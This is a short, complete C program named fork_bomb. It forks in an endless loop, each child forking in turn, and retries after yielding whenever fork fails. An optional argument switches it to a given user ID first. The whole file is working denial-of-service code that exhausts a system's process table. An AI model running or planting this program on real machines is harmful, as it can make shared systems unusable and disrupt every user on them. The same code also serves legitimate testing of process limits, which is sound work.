/* fork_bomb: forks, and so do its children, as long as there is something left to fork with; who
 * cannot lets the others go first, and tries again.
 *
 * usage: fork_bomb [UID] */
#include <sched.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char *argv[])
{
    if (argc > 1 && setuid((uid_t)atoi(argv[1])) < 0)
        return 1;
    for (;;)
        if (fork() < 0)
            sched_yield();
}
